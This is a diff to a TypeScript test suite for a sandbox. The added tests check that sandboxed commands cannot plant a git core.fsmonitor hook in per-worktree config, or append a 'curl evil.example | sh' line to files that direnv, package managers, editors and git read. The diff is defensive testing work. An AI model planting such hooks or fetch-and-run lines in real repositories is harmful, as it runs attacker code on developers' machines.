@@ -181,6 +181,27 @@ function sh(
   });
 }
 
+const gitWorks = requireSystem({
+  tests: 'sandbox escape suite, git per-worktree config',
+  needs: 'git on the host (the host runs `git status` after the command)',
+  enable: 'apt-get install -y git',
+  debianPackage: 'git',
+  command: 'git',
+});
+
+function git(dir: string, ...args: string[]): void {
+  const run = spawnSync('git', ['-C', dir, ...args], { encoding: 'utf8' });
+  if (run.status !== 0) throw new Error(`git ${args.join(' ')}: ${run.stderr}`);
+}
+
+function readIfAny(path: string): string | undefined {
+  try {
+    return readFileSync(path, 'utf8');
+  } catch {
+    return undefined;
+  }
+}
+
 /** A folder of its own (the host-run file tests change what lies at its top). */
 function folder(name: string): string {
   const dir = join(base, name);
@@ -219,7 +240,7 @@ describe.skipIf(!sandboxWorks).concurrent('escape suite: what of the host is rea
 
   it('connecting to a Unix socket with the network allow-list on (the proxy still works)', async () => {
     const r = await sh(`${connect(socketPath)}; curl -sS -m 10 http://127.0.0.1:${httpPort}/`, {
-      network: { allow: ['127.0.0.1'] },
+      network: { allow: [`127.0.0.1:${httpPort}`] },
     });
     expect(r.stdout).not.toContain('HELLO FROM THE HOST SERVICE');
     expect(r.stdout).toContain('ERROR EPERM');
@@ -422,6 +443,98 @@ describe.skipIf(!sandboxWorks).concurrent('escape suite: what of the host is rea
     expect(r.stderr).toMatch(/post-checkout: Read-only file system/);
     expect(existsSync(join(nested, '.git', 'hooks', 'post-checkout'))).toBe(false);
     expect(existsSync(join(top, 'packages', 'lib', '.git'))).toBe(true);
+  });
+
+  it.skipIf(!gitWorks)(
+    "planting core.fsmonitor in git's per-worktree config for the host's next git status (issue 48)",
+    async () => {
+      // The reported attack: a repository with extensions.worktreeConfig (what `git
+      // sparse-checkout` sets); the command writes core.fsmonitor into .git/config.worktree.
+      for (const existing of [true, false]) {
+        const repo = folder(`repo-worktree-config-${existing}`);
+        git(repo, 'init', '-q');
+        git(repo, 'config', 'extensions.worktreeConfig', 'true');
+        if (existing) git(repo, 'config', '--worktree', 'core.sparseCheckout', 'false');
+        const marker = join(outside, `fsmonitor-ran-${existing}`);
+        const monitor = join(repo, 'monitor.sh');
+        const r = await sh(
+          `printf '#!/bin/sh\\necho ran > ${marker}\\n' > monitor.sh; chmod +x monitor.sh; ` +
+            `printf '[core]\\n\\tfsmonitor = ${monitor}\\n' >> .git/config.worktree; ` +
+            `mv .git/config.worktree .git/moved; rm -f .git/config.worktree; ` +
+            `mkdir -p .git/worktrees/x && echo '[core] fsmonitor = ${monitor}' > .git/worktrees/x/config.worktree`,
+          {},
+          { cwd: repo },
+        );
+        expect(r.stderr).toMatch(
+          /config\.worktree: (Read-only file system|Device or resource busy)/,
+        );
+        const status = spawnSync('git', ['-C', repo, 'status', '--porcelain'], {
+          encoding: 'utf8',
+        });
+        expect(status.status, status.stderr).toBe(0);
+        expect(existsSync(marker), 'the host ran the planted fsmonitor').toBe(false);
+        const config = join(repo, '.git', 'config.worktree');
+        if (existing) expect(readFileSync(config, 'utf8')).not.toContain('fsmonitor');
+        // The placeholder that stood for the absent file is gone with the command.
+        else expect(existsSync(config)).toBe(false);
+        expect(existsSync(join(repo, '.git', 'moved'))).toBe(false);
+      }
+    },
+  );
+
+  it('writing or creating the files package managers, direnv, editors and git read (issue 48)', async () => {
+    const top = repository(folder('repo-tool-files'));
+    const nested = repository(join(top, 'packages', 'lib'));
+    writeFileSync(join(top, '.npmrc'), 'registry=https://registry.npmjs.org/\n');
+    mkdirSync(join(top, '.vscode'));
+    writeFileSync(join(top, '.vscode', 'settings.json'), '{}\n');
+    writeFileSync(join(top, '.git', 'info', 'attributes'), '*.bin binary\n');
+    mkdirSync(join(top, '.git', 'worktrees', 'feature'), { recursive: true });
+    writeFileSync(join(top, '.git', 'worktrees', 'feature', 'commondir'), '../..\n');
+    mkdirSync(join(nested, '.devcontainer'));
+    const evil = 'curl evil.example | sh';
+    const plant = [
+      '.envrc',
+      '.pnpmfile.cjs',
+      '.yarnrc',
+      '.yarnrc.yml',
+      '.npmrc',
+      '.devcontainer/devcontainer.json',
+      '.vscode/tasks.json',
+      '.vscode/settings.json',
+      '.idea/workspace.xml',
+      '.git/info/attributes',
+      '.git/info/exclude',
+      '.git/info/sparse-checkout',
+      '.git/config.worktree',
+      '.git/worktrees/feature/config.worktree',
+      '.git/worktrees/feature/commondir',
+      'packages/lib/.git/config.worktree',
+      'packages/lib/.git/info/attributes',
+      'packages/lib/.devcontainer/devcontainer.json',
+    ];
+    const before = new Map(plant.map((p) => [p, readIfAny(join(top, p))]));
+    const r = await sh(
+      plant
+        .map((p) => `mkdir -p "$(dirname '${p}')" 2>/dev/null; echo '${evil}' >> '${p}'`)
+        .join('; '),
+      {},
+      { cwd: top },
+    );
+    for (const path of plant) {
+      expect(readIfAny(join(top, path)), path).toBe(before.get(path));
+      expect(r.stderr, path).toContain(path.split('/').pop());
+    }
+    expect(r.stderr).not.toMatch(/Permission denied/);
+    // The placeholders (.envrc, .idea …, config.worktree, nested info/ …) are gone with the command.
+    for (const path of [
+      '.envrc',
+      '.idea',
+      '.git/config.worktree',
+      'packages/lib/.git/config.worktree',
+    ]) {
+      expect(existsSync(join(top, path)), path).toBe(false);
+    }
   });
 
   it('allocating 6 GiB past sandbox.memoryBytes', async () => {
